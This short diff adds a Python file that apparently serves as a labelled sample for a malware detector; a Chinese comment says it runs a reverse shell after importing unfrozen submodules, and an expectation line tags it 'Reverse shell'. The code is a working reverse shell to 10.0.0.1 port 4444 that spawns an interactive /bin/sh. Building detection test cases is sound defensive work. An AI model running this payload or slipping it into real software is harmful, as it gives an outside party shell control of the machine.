@@ -0,0 +1,14 @@
+# 导入冻结包中未冻结的子模块后执行反弹shell，冻结编译下子模块仍需从标准库目录导入
+# detect-expect: 'IsMalicious': True, 'Desc': 'Reverse shell'
+import ctypes.util
+import os
+import socket
+import subprocess
+from email.mime.text import MIMEText
+
+note = MIMEText(str(ctypes.util.find_library("c")))
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.connect(("10.0.0.1", 4444))
+os.dup2(s.fileno(), 0)
+os.dup2(s.fileno(), 1)
+subprocess.call(["/bin/sh", "-i"])